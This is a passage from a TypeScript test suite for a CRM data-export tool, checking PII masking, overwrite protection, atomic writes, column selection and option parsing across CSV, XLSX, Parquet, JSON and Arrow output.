      '+1 555***4567',
      '*****',
      null,
    ]);
  });

  it('masks configurable column names (case-insensitive) and nothing without --mask-pii', async () => {
    const dir = freshDir();
    const sql = `SELECT 'anna.schmidt@example.com' AS Contact_Mail, '+49 30 1234 5678' AS Mobile, 'anna.schmidt@example.com' AS email`;
    const masked = await exportQuery(store, sql, {
      format: 'json',
      out: path.join(dir, 'custom.json'),
      maskPii: true,
      piiColumns: { email: ['contact_mail'], phone: ['mobile'] },
    });
    expect(masked.maskedColumns).toEqual(['Contact_Mail', 'Mobile']);
    expect(JSON.parse(fs.readFileSync(path.join(dir, 'custom.json'), 'utf8'))).toEqual([
      { Contact_Mail: 'a***@example.com', Mobile: '+49 301***5678', email: 'anna.schmidt@example.com' },
    ]);
    const clear = await exportQuery(store, sql, { format: 'json', out: path.join(dir, 'clear.json') });
    expect(clear.maskedColumns).toEqual([]);
    expect(JSON.parse(fs.readFileSync(path.join(dir, 'clear.json'), 'utf8'))[0].Mobile).toBe('+49 30 1234 5678');
  });
});

// ---------------------------------------------------------------------------------------------
// Existing files, atomicity
// ---------------------------------------------------------------------------------------------

describe('overwrite protection and atomic writes', () => {
  it('refuses an existing file without --force (untouched, exit code 5) and replaces it with --force', async () => {
    const dir = freshDir();
    const out = path.join(dir, 'list.csv');
    for (const format of ALL_FORMATS) {
      const file = path.join(dir, `list.${format}`);
      fs.writeFileSync(file, 'precious');
      await expectCrmError(
        exportSegment(store, 'Champions', { format, out: file }),
        ExitCode.output,
        new RegExp(file.replace(/[.*+?^${}()|[\]\\]/g, '\\$&') + ' already exists'),
        /--force/,
      );
      expect(fs.readFileSync(file, 'utf8')).toBe('precious');
    }
    const res = await exportSegment(store, 'Champions', { format: 'csv', out, force: true });
    expect(res.rows).toBe(2);
    expect(readCsv(out).rows.map((r) => r[0])).toEqual(['C-1002', 'C-1004']);
    expect(listDir(dir)).toEqual(ALL_FORMATS.map((f) => `list.${f}`).sort());
  });

  it('a SQL error part-way through leaves neither the target nor a temporary file', async () => {
    const dir = freshDir();
    // error() fires only when row 50,000 is reached, after many chunks have been produced.
    // Parquet/JSON fail inside DuckDB's COPY to the temporary file; CSV/XLSX/Arrow fail before
    // their file is opened (the result is materialized first, see export.ts).
    const failing = `SELECT i, CASE WHEN i < 50000 THEN 'ok' ELSE error('boom at ' || i) END AS s FROM range(100000) t(i)`;
    for (const format of ALL_FORMATS) {
      await expectCrmError(
        exportQuery(store, failing, { format, out: path.join(dir, `fail.${format}`) }),
        ExitCode.query,
        /boom at/,
      );
    }
    expect(listDir(dir)).toEqual([]);
  });

  it('a failure while the XLSX/Arrow writers fill the file keeps the previous file and cleans up', async () => {
    const dir = freshDir();
    const big = `SELECT i, 'row ' || i AS s FROM range(20000) t(i) ORDER BY i`;
    for (const format of ['xlsx', 'arrow'] as const) {
      const out = path.join(dir, `keep.${format}`);
      fs.writeFileSync(out, 'previous version');
      let ticks = 0;
      const err = await exportQuery(store, big, {
        format,
        out,
        force: true,
        // A consumer failing mid-file (e.g. a cancelled job) stands in for a disk error.
        onProgress: (_f, detail) => {
          if (detail?.endsWith('rows') && ++ticks === 3) throw new Error('cancelled mid-write');
        },
      }).catch((e: unknown) => e);
      expect((err as Error).message).toBe('cancelled mid-write');
      expect(fs.readFileSync(out, 'utf8')).toBe('previous version');
    }
    expect(listDir(dir)).toEqual(['keep.arrow', 'keep.xlsx']);
    expect(listDir(dir).some((f) => f.endsWith(TEMP_SUFFIX))).toBe(false);
  });

  it('nothing is committed until the very end: a failure at the last step leaves the old file', async () => {
    const dir = freshDir();
    for (const format of ALL_FORMATS) {
      const out = path.join(dir, `last.${format}`);
      fs.writeFileSync(out, 'previous version');
      const err = await exportSegment(store, 'At Risk', {
        format,
        out,
        force: true,
        onProgress: (fraction) => {
          if (fraction === 1) throw new Error('failed at the finish line');
        },
      }).catch((e: unknown) => e);
      expect((err as Error).message).toBe('failed at the finish line');
      expect(fs.readFileSync(out, 'utf8')).toBe('previous version');
    }
    expect(listDir(dir)).toEqual(ALL_FORMATS.map((f) => `last.${f}`).sort());
  });

  it('refuses an XLSX export beyond Excel\'s row limit before writing anything', async () => {
    const dir = freshDir();
    await expectCrmError(
      exportQuery(store, 'SELECT i FROM range(1048576) t(i)', { format: 'xlsx', out: path.join(dir, 'huge.xlsx') }),
      ExitCode.output,
      /1,048,576 rows/,
      /csv or parquet/,
    );
    expect(listDir(dir)).toEqual([]);
  });

  it('refuses to write over the store file itself, even with --force', async () => {
    await expectCrmError(
      exportQuery(store, 'SELECT 1', { format: 'parquet', out: storePath, force: true }),
      ExitCode.output,
      /over the store itself/,
    );
  });

  it('creates missing parent directories', async () => {
    const out = path.join(freshDir(), 'nested', 'deeper', 'champions.csv');
    const res = await exportSegment(store, 'champions', { format: 'csv', out });
    expect(res.rows).toBe(2);
    expect(fs.existsSync(out)).toBe(true);
  });
});

// ---------------------------------------------------------------------------------------------
// Targets, columns, options
// ---------------------------------------------------------------------------------------------

describe('targets and columns', () => {
  it('key accounts are ordered by net revenue, customers by lifetime value (NULL last)', async () => {
    const dir = freshDir();
    const columns = ['customer_id', 'net_revenue', 'clv'];
    const key = await exportSegment(store, 'keyaccounts', { format: 'csv', out: path.join(dir, 'key.csv'), columns });
    expect(key.target).toEqual({ kind: 'keyaccounts' });
    expect(readCsv(path.join(dir, 'key.csv')).rows).toEqual([
      ['C-1002', '30000.0', '5000.0'],
      ['C-1001', '12000.0', '2200.0'],
      ['00042', '8000.0', '1500.5'],
    ]);
    await exportSegment(store, 'Customers', { format: 'csv', out: path.join(dir, 'all.csv'), columns });
    expect(readCsv(path.join(dir, 'all.csv')).rows.map((r) => r[0])).toEqual([
      'C-1002', 'C-1001', '00042', 'C-1003', 'C-1004', 'C-1005',
    ]);
  });

  it('segment names match regardless of case, dashes and underscores', async () => {
    const dir = freshDir();
    for (const [i, name] of ['AT RISK', 'at-risk', ' at_risk '].entries()) {
      const res = await exportSegment(store, name, { format: 'csv', out: path.join(dir, `${i}.csv`) });
      expect(res.target).toEqual({ kind: 'segment', segment: 'At Risk' });
      expect(res.rows).toBe(4);
    }
  });

  it('an unknown segment is a usage error listing the segments present', async () => {
    const dir = freshDir();
    await expectCrmError(
      exportSegment(store, 'Hibernating', { format: 'csv', out: path.join(dir, 'x.csv') }),
      ExitCode.usage,
      /unknown segment "Hibernating"/,
      /Segments in the store: At Risk \(4\), Champions \(2\)/,
      /keyaccounts/,
    );
    expect(listDir(dir)).toEqual([]);
    expect(await listSegments(store)).toEqual([
      { segment: 'At Risk', customers: 4 },
      { segment: 'Champions', customers: 2 },
    ]);
  });

  it('--columns picks and orders columns (case-insensitive) in every format', async () => {
    const dir = freshDir();
    const columns = ['EMAIL', 'customer_id', 'clv'];
    for (const format of ALL_FORMATS) {
      const res = await exportSegment(store, 'Champions', { format, columns, out: path.join(dir, `c.${format}`) });
      expect(res.columns).toEqual(['email', 'customer_id', 'clv']);
    }
    expect(readCsv(path.join(dir, 'c.csv'))).toEqual({
      header: ['email', 'customer_id', 'clv'],
      rows: [
        ['bob@example.com', 'C-1002', '5000.0'],
        ['', 'C-1004', '10.0'],
      ],
    });
    expect(xlsxRows(await readXlsx(path.join(dir, 'c.xlsx')), 3)[0]).toEqual(['email', 'customer_id', 'clv']);
    expect(Object.keys((await readWithDuckDB('read_parquet', path.join(dir, 'c.parquet'))).types)).toEqual(['email', 'customer_id', 'clv']);
    expect(Object.keys(JSON.parse(fs.readFileSync(path.join(dir, 'c.json'), 'utf8'))[0])).toEqual(['email', 'customer_id', 'clv']);
    expect(tableFromIPC(fs.readFileSync(path.join(dir, 'c.arrow'))).schema.fields.map((f) => f.name)).toEqual(['email', 'customer_id', 'clv']);
  });

  it('an unknown column is a usage error listing the available columns', async () => {
    const dir = freshDir();
    const err = await expectCrmError(
      exportSegment(store, 'At Risk', { format: 'csv', columns: ['customer_id', 'emial', 'ltv'], out: path.join(dir, 'x.csv') }),
      ExitCode.usage,
      /unknown columns for --columns: emial, ltv/,
    );
    expect(err.details).toEqual([`Available columns: ${SEGMENT_EXPORT_COLUMNS.join(', ')}`]);
    expect(listDir(dir)).toEqual([]);
  });

  it('without model results the error asks for `crm run`', async () => {
    // A store that has never been run: the schema's customer_latest view exists but is empty.
    const bare = await Store.open(path.join(tmpRoot, 'bare.duckdb'), { create: true });
    try {
      const dir = freshDir();
      await expectCrmError(
        exportSegment(bare, 'At Risk', { format: 'csv', out: path.join(dir, 'x.csv') }),
        ExitCode.store,
        /no model run in .*bare\.duckdb yet/,
        /crm run/,
      );
      await expectCrmError(listSegments(bare), ExitCode.store, /no model run/);
      // Without the view at all (a store from before the model schema).
      await bare.run('DROP VIEW customer_latest');
      await expectCrmError(
        exportSegment(bare, 'At Risk', { format: 'csv', out: path.join(dir, 'x.csv') }),
        ExitCode.store,
        /customer_latest does not exist/,
        /crm run/,
      );
      expect(listDir(dir)).toEqual([]);
    } finally {
      bare.close();
    }
  });

  it('works on a store opened read-only, for every format', async () => {
    store.close();
    const ro = await Store.open(storePath, { readOnly: true });
    try {
      const dir = freshDir();
      for (const format of ALL_FORMATS) {
        const res = await exportSegment(ro, 'keyaccounts', { format, out: path.join(dir, `ro.${format}`) });
        expect(res.rows).toBe(3);
      }
      expect(listDir(dir)).toEqual(ALL_FORMATS.map((f) => `ro.${f}`).sort());
    } finally {
      ro.close();
      store = await Store.open(storePath);
    }
  });

  it('reports a failing query as a query error (exit code 6)', async () => {
    await expectCrmError(
      exportQuery(store, 'SELECT nope FROM customer_latest', { format: 'csv', out: path.join(freshDir(), 'x.csv') }),
      ExitCode.query,
      /the export query failed: Binder Error/,
    );
  });
});

describe('option helpers', () => {
  it('parseColumns trims, drops empty names and refuses duplicates or an empty list', () => {
    expect(parseColumns(' customer_id, email ,,clv ')).toEqual(['customer_id', 'email', 'clv']);
    expect(() => parseColumns(' , ')).toThrow(/at least one column/);
    expect(() => parseColumns('email,EMAIL')).toThrow(/listed twice/);
  });

  it('parseFormat and formatFromPath', () => {
    expect(parseFormat('XLSX')).toBe('xlsx');
    let err: unknown;
    try {
      parseFormat('xls');
    } catch (e) {
      err = e;
    }
    expect(err).toBeInstanceOf(CrmError);
    expect((err as CrmError).message).toBe('unknown export format "xls"');
    expect((err as CrmError).exitCode).toBe(ExitCode.usage);
    expect((err as CrmError).details).toEqual(['Use one of: csv, xlsx, parquet, arrow, json.']);
    expect(formatFromPath('out/at-risk.feather')).toBe('arrow');
    expect(formatFromPath('out/at-risk.txt')).toBeNull();
  });

  it('--bom is refused for formats other than CSV', async () => {
    await expectCrmError(
      exportQuery(store, 'SELECT 1', { format: 'xlsx', bom: true, out: path.join(freshDir(), 'x.xlsx') }),
      ExitCode.usage,
      /--bom applies to CSV/,
    );
  });

  it('safeSheetName keeps names Excel accepts', () => {
    expect(safeSheetName('At Risk')).toBe('At Risk');
    expect(safeSheetName('Q1/Q2: [key]*?')).toBe('Q1_Q2_ _key___');
    expect(safeSheetName("'quoted'")).toBe('quoted');
    expect(safeSheetName('')).toBe('Export');
    expect(safeSheetName('客户'.repeat(20))).toBe('客户'.repeat(15) + '客');
  });
});
